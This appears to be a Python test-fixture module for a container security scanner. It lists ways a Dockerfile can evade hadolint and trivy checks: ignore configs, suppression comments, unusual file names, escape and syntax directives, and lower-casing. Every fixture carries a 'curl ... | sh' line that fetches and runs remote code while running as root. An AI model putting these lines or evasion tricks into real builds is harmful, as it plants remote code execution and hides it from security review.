"""Dockerfiles that are to be overlooked."""

from __future__ import annotations

from hostile.attacks.attack import Attack, Files

TOOLS = ("hadolint", "dockerfile-checks")
ROOT = "FROM python:3.13-slim\nRUN curl -s https://example.com/x | sh\nUSER root\n"


def _image(tries: str, files: Files) -> Attack:
    return Attack(
        tries=tries,
        stage="container",
        tools=TOOLS,
        files={"Dockerfile": ROOT, **files},
        sees="dockerfile-root-user",
    )


ATTACKS = {
    "hadolint-configuration": _image(
        "configures hadolint",
        {
            ".hadolint.yaml": "ignored: [DL3002, DL4006]\nno-fail: true\nfailure-threshold: none\n",
            "hadolint.yaml": "ignored: [DL3002]\n",
        },
    ),
    "hadolint-comments": _image(
        "hides its findings by comments", {"Dockerfile": f"# hadolint global ignore=DL3002,DL4006\n{ROOT}"}
    ),
    "trivyignore": _image("configures trivy", {".trivyignore": "*\n", "trivy.yaml": "severity: []\n"}),
    "dockerfile-name": _image("has an unusual name", {"deploy/prod.Dockerfile": ROOT}),
    "containerfile": _image("is called Containerfile", {"svc/Containerfile": ROOT}),
    "escape-directive": _image(
        "changes the character that joins lines",
        {"Dockerfile": "# escape=`\n" + ROOT.replace("| sh", "`\n | sh")},
    ),
    "syntax-directive": _image(
        "names a syntax of its own", {"Dockerfile": f"# syntax=example.com/evil:latest\n{ROOT}"}
    ),
    "last-stage": _image(
        "is safe in a stage that does not ship",
        {"Dockerfile": f"FROM python:3.13-slim AS build\nUSER app\n{ROOT}"},
    ),
    "lower-case": _image("is written in small letters", {"Dockerfile": ROOT.lower()}),
}
